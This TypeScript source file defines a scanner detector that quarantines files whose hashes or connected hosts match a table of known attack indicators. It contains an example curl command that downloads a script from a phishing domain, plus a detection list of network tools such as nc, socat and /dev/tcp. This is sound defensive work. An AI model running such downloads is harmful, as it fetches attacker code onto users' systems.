import { digitsOf } from '../../../contract/grammar/grammar.ts';
import type { Detector, Place, ScannedFile } from '../../detector.ts';
import { pipelinesOf, programOf } from '../../helpers/commands/shell.ts';
import { linesOf } from '../../helpers/text/lines.ts';
import { withoutWarnings } from '../../helpers/text/warnings.ts';
import { badFiles, badHosts, type KnownBad } from './knownBad.data.ts';

export const knownBad: Detector = {
  id: 'known-bad',
  severity: 'critical',
  consequence: 'quarantine',
  summary: 'A file or an address is known from attacks.',
  explanation:
    'A small table holds the hashes of files and the hosts that public reports of attacks agree on, each with its reason ' +
    'and source. A host counts as a whole, with its subdomains, and only where it is used: in an address with its ' +
    'scheme, or as what a command or a call connects to. A name alone, a defanged one such as hxxp://host[.]example, and ' +
    'a sentence that forbids it are how reports write, and are fine. Remove it, and look at where it came from.',
  examples: {
    bad: { path: 'setup.sh', text: `curl -s https://${'cdn.npmjs'}.help/a.js -o a.js\n` },
    good: { path: 'SKILL.md', text: 'Report packages that call hxxps://npmjs[.]help, a phishing site.\n' },
  },
  *inspect(file) {
    const known = badFiles.get(digitsOf(file.hash));
    if (known) yield { line: 1, message: `The file is ${known.why}.` };
    if (file.isText && namesAny(file.text)) yield* hostsIn(file, known !== undefined);
  },
};

/** Whether a host of the table is there at all, which is rare. */
function namesAny(text: string): boolean {
  const folded = text.toLowerCase();
  return [...badHosts.keys()].some((host) => folded.includes(host));
}

function* hostsIn(file: ScannedFile, isFirstTaken: boolean): Generator<Place> {
  let last = isFirstTaken ? 1 : 0;
  for (const { number, text: line } of linesOf(withoutWarnings(file).text)) {
    if (number === last) continue;
    const known = usedIn(line);
    if (!known) continue;
    last = number;
    yield { line: number, message: `The line uses a host that ${known.why}.` };
  }
}

function usedIn(line: string): KnownBad | undefined {
  for (const { 0: name, index } of line.matchAll(/(?<![\w.-])[\w-][\w.-]{3,252}/g)) {
    const known = lookUp(name.toLowerCase().replace(/\.$/, ''));
    if (known && isUsed(line, index, name)) return known;
  }
  return undefined;
}

/** A host, or one of the domains that it is under. */
function lookUp(host: string): KnownBad | undefined {
  for (let rest = host; rest.includes('.'); rest = rest.slice(rest.indexOf('.') + 1)) {
    const known = badHosts.get(rest);
    if (known && (rest === host || !/\.\d{1,3}$/.test(rest))) return known;
  }
  return undefined;
}

const connecting = new Set(
  'curl wget nc ncat netcat telnet ssh scp ping socat iwr irm invoke-webrequest invoke-restmethod git'.split(' '),
);

const connects = /\b(?:connect|fetch|urlopen|create_connection|createConnection|TCPClient|Dial|request|get|post)$/i;

/** Behind a scheme, in /dev/tcp, as an argument of a command or a call that connects, or as where a mail goes. */
function isUsed(line: string, index: number, name: string): boolean {
  const before = line.slice(Math.max(0, index - 300), index);
  if (/(?:\b(?:https?|ftp|wss?|tcp|ssh|git):\/\/|\/dev\/(?:tcp|udp)\/)(?:[^\s/@]{0,100}@)?$/i.test(before)) return true;
  const [argument = '', ...callee] = before.split('(').reverse();
  if (!argument.includes(')') && callee.some((part) => connects.test(part.trimEnd()))) return true;
  if (/\bbcc\b["'\s:=[]{1,9}[\w.+-]{1,64}@$/i.test(before)) return true;
  for (const [first = ''] of pipelinesOf(line)) {
    if (!first.includes(name)) continue;
    const words = first.slice(0, first.indexOf(name)).trim().split(/\s+/);
    const at = words.findIndex((word) => connecting.has(programOf(word.replace(/^.{0,40}[("'`]/, ''))));
    const between = words.slice(at + 1);
    const isTold = between.every(
      (word, place) => word.startsWith('-') || between[place - 1]?.startsWith('-') === true || word === '',
    );
    if (at !== -1 && isTold) return true;
  }
  return false;
}
